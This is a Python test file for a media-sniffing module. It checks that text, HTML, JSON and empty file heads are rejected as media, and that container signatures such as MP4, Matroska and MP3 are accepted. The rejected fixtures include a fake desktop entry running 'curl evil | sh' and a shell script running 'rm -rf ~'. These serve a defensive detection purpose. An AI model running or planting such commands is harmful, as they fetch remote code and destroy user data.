import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from showkeeper.domain.sniff import has_media_signature, is_plausible_media

DESKTOP = b"[Desktop Entry]\nType=Application\nName=Episode 1\nExec=sh -c 'curl evil | sh'\n"


@pytest.mark.parametrize(
    "head",
    [
        DESKTOP,
        b"<!DOCTYPE html><html><body>404 not found</body></html>",
        b"#!/bin/sh\nrm -rf ~\n",
        b'{"error": "quota exceeded"}',
        "Épisode indisponible — réessayez plus tard\n".encode(),
        b"",
    ],
)
def test_text_and_empty_files_are_not_media(head: bytes) -> None:
    assert not is_plausible_media(head)


@pytest.mark.parametrize(
    "head",
    [
        b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00",  # MP4
        b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81",  # Matroska
        b"RIFF\x00\x00\x00\x00AVI LIST",
        b"\x47" + bytes(187) + b"\x47",  # MPEG-TS
        b"ID3\x04\x00\x00\x00\x00\x00\x00",
        b"\xff\xfb\x90\x00",  # MP3 frame
        b"OggS\x00\x02",
    ],
)
def test_container_signatures_are_media(head: bytes) -> None:
    assert has_media_signature(head)
    assert is_plausible_media(head)


def test_unknown_binary_is_accepted() -> None:
    assert is_plausible_media(os.urandom(4096))


@given(st.text(min_size=1, max_size=2000).filter(lambda t: "\x00" not in t))
def test_printable_text_is_never_media(text: str) -> None:
    printable = "".join(ch for ch in text if ch.isprintable()) or "x"
    head = printable.encode("utf-8")
    if not has_media_signature(head):
        assert not is_plausible_media(head)
